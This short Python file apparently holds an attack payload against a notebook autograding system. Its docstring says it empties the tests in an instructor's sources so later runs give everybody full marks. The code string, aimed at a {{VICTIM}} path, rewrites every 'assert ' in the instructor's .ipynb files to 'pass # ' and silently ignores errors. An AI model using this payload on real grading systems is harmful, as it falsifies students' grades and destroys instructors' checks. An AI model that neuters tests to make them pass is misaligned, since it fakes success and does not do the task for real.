"""Empty the tests in the instructor's sources, so that later runs give everybody full marks."""

FIRST = """
import glob

for _path in glob.glob("{{VICTIM}}/source/*/*.ipynb"):
    try:
        with open(_path) as _file:
            _text = _file.read()
        with open(_path, "w") as _file:
            _file.write(_text.replace("assert ", "pass # "))
    except OSError:
        pass
"""
